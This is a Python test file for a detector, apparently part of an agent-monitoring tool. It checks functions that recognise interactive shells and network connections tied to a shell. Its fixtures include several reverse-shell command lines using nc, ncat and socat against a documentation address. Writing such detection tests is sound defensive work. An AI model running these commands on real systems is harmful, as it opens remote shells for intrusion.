from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentwatch.detect.shell_words import (
    command_of,
    connects_to_program,
    is_interpreter,
    is_shell,
    takes_orders,
)


@pytest.mark.parametrize(
    ("exe", "words", "expected"),
    [
        ("/usr/bin/dash", "sh -i", True),
        ("/usr/bin/bash", "-bash", True),
        ("/tmp/x", "sh", True),
        ("/bin/busybox", "busybox ash", True),
        ("/bin/busybox", "busybox ls", False),
        ("/usr/bin/python3", "python3", False),
    ],
)
def test_shells_by_name(exe: str, words: str, expected: bool) -> None:
    assert is_shell(exe, words.split()) == expected


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("sh", True),
        ("bash -i", True),
        ("-bash", True),
        ("bash --norc --rcfile /dev/null", True),
        ("bash -o vi +O extglob", True),
        ("sh -s one two", True),
        ("sh -", True),
        ("busybox sh -i", True),
        ("sh -c id", False),
        ("bash -lc id", False),
        ("bash script.sh", False),
        ("bash -x script.sh", False),
        ("bash -- script.sh", False),
        ("busybox sh -c id", False),
        ("x", True),
        ("x -i", True),
        ("x --work", False),
    ],
)
def test_who_takes_orders_from_its_input(words: str, expected: bool) -> None:
    argv = words.split()
    assert takes_orders(f"/bin/{argv[0].lstrip('-')}", argv) == expected


def test_commands_of_shells() -> None:
    assert command_of("/bin/sh", ("sh", "-c", "id; ls")) == "id; ls"
    assert command_of("/bin/bash", ("bash", "-lc", "id")) == "id"
    assert command_of("/bin/bash", ("bash", "-c")) is None
    assert command_of("/bin/ls", ("ls", "-c", "x")) is None
    assert is_interpreter("/usr/bin/python3.11")


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("nc 192.0.2.1 4001 -e /bin/sh", True),
        ("ncat --ssl 192.0.2.1 4001 -c sh", True),
        ("x --exec sh 192.0.2.1 4001", True),
        ("socat TCP:192.0.2.1:4001 EXEC:/bin/sh,pty,stderr", True),
        ("socat OPENSSL:192.0.2.1:4001,verify=0 system:sh", True),
        ("nc 192.0.2.1 4002 -e /bin/sh", False),
        ("nc 192.0.2.1 4001", False),
        ("agent --model 192.0.2.1:4001 --shell /bin/sh", False),
        ("socat TCP:192.0.2.1:4001 EXEC:/bin/cat", False),
    ],
)
def test_words_that_join_a_port_and_a_program(words: str, expected: bool) -> None:
    assert connects_to_program(words.split(), "/bin/sh", 4001) == expected


@given(st.text(), st.lists(st.text(), max_size=6), st.integers(0, 65535))
def test_any_words(exe: str, argv: list[str], port: int) -> None:
    takes_orders(exe, argv)
    command_of(exe, argv)
    connects_to_program(argv, exe, port)
